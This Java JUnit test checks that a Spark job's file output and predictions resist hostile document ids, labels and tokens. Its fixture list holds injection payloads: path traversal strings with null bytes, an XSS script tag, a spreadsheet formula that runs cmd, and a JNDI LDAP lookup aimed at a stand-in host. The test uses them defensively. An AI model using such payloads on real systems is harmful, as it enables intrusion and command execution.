package io.meanmax.job.run;

import static org.assertj.core.api.Assertions.assertThat;

import io.meanmax.job.testing.Road;
import io.meanmax.job.testing.SparkExtension;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.SparkSession;
import org.apache.spark.sql.types.DataTypes;
import org.apache.spark.sql.types.StructType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/** Ids, labels and tokens of somebody who hopes that they become paths, markup or formulas. */
@ExtendWith(SparkExtension.class)
class HostileDocumentsTest {
  private static final List<String> LABELS =
      List.of(
          "../../evil",
          "/evil",
          "<script>evil()</script>",
          "=cmd|' /C evil'!A0",
          "%s%n ${jndi:ldap://evil/a} $1\\",
          "evil\nline\ttab");

  @TempDir private Path folder;

  private String documents(SparkSession spark) {
    List<Row> rows = new ArrayList<>();
    for (int i = 0; i < 120; i++) {
      String label = LABELS.get(i % LABELS.size());
      rows.add(
          RowFactory.create("../evil-" + i + "/\u0000", label + " ../evil word" + i % 7, label));
    }
    StructType schema =
        new StructType()
            .add("id", DataTypes.StringType)
            .add("text", DataTypes.StringType)
            .add("label", DataTypes.StringType);
    String path = folder.resolve("documents.parquet").toString();
    spark.createDataFrame(rows, schema).write().parquet(path);
    return path;
  }

  @Test
  void idsLabelsAndTokens_becomeNoPath_andComeOutAsTheyWere(SparkSession spark) throws IOException {
    Path inside = Files.createDirectories(folder.resolve("a/b/c"));
    String input = documents(spark);
    RunResult result =
        new RunJob(
                spark, RunConfig.from(Road.settings(inside, input, "input.test=\"" + input + "\"")))
            .run();
    try (Stream<Path> all = Files.walk(folder)) {
      assertThat(all.map(path -> path.getFileName().toString()))
          .noneMatch(name -> name.contains("evil") || name.contains("script"));
    }
    List<Row> predicted = spark.read().parquet(result.predictions()).select("id").collectAsList();
    assertThat(predicted).hasSize(120);
    assertThat(predicted.get(0).getString(0)).startsWith("../evil-").endsWith("/\u0000");
    List<Row> labels =
        spark
            .read()
            .parquet(result.predictions())
            .selectExpr("explode(predictions.label)")
            .distinct()
            .collectAsList();
    assertThat(labels).extracting(row -> row.getString(0)).isSubsetOf(LABELS);
  }
}
